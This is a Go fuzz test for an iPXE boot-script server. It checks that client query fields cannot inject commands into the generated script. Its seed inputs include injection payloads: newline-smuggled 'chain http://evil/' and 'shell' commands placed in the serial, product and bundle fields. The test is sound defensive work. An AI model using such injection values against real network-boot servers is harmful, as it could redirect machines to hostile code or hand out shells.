package policy

import (
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"
)

// FuzzBootScript feeds arbitrary query strings — what any host on the
// network can send to /boot.ipxe — to the policy. Whatever comes in, the
// answer is a 400 or an iPXE script whose lines were all written by the
// server: client data must never inject script commands.
func FuzzBootScript(f *testing.F) {
	f.Add("mac=52-54-00-12-34-56&uuid=4c4c4544-0001&serial=SN1&manufacturer=QEMU&product=Standard%20PC&arch=i386&platform=pcbios")
	f.Add("mac=52:54:00:12:34:56&action=menu")
	f.Add("mac=52:54:00:12:34:56&action=work")
	f.Add("mac=52:54:00:12:34:56&serial=%0Achain%20http://evil/&product=%0D%0Ashell")
	f.Add("mac=%00&action=%FF")
	f.Add("mac=52:54:00:12:34:56&action=bundle&bundle=%24%7Bx%7D%0Ashell")
	f.Add("mac=52:54:00:12:34:56&action=shell")
	f.Add("")
	e := newEngine(f, "always")
	allowed := []string{"#!ipxe", "menu ", "item ", "choose ", "chain ", "echo ", "prompt ", "sanboot ", "iseq ", "exit", "shell", "kernel ", "initrd ", "boot ", ":failed", "sleep "}
	f.Fuzz(func(t *testing.T, query string) {
		req := httptest.NewRequest("GET", "http://10.0.0.1:8080/boot.ipxe", nil)
		req.URL.RawQuery = query
		req.RemoteAddr = "10.0.0.2:1000"
		rec := httptest.NewRecorder()
		e.ServeHTTP(rec, req)
		if rec.Code == http.StatusBadRequest {
			return
		}
		if rec.Code != http.StatusOK {
			t.Fatalf("status %d for %q", rec.Code, query)
		}
		for _, line := range strings.Split(strings.TrimSuffix(rec.Body.String(), "\n"), "\n") {
			ok := false
			for _, p := range allowed {
				if strings.HasPrefix(line, p) {
					ok = true
					break
				}
			}
			if !ok {
				t.Fatalf("unexpected script line %q for query %q", line, query)
			}
		}
		q, err := url.ParseQuery(query)
		if err != nil {
			return
		}
		// The same request without the inventory fields is the baseline: a
		// value is echoed only if the script has it and the baseline has
		// not (a serial of "\ncha" matches every "chain" line).
		idFields := []string{"serial", "product", "manufacturer", "uuid"}
		base := url.Values{}
		for k, vs := range q {
			if !slices.Contains(idFields, k) {
				base[k] = vs
			}
		}
		breq := httptest.NewRequest("GET", "http://10.0.0.1:8080/boot.ipxe", nil)
		breq.URL.RawQuery = base.Encode()
		breq.RemoteAddr = req.RemoteAddr
		brec := httptest.NewRecorder()
		e.ServeHTTP(brec, breq)
		for _, k := range idFields {
			v := q.Get(k)
			if len(v) > 3 && strings.Contains(rec.Body.String(), v) && !strings.Contains(brec.Body.String(), v) {
				t.Fatalf("client-supplied %s %q echoed into the script", k, v)
			}
		}
	})
}
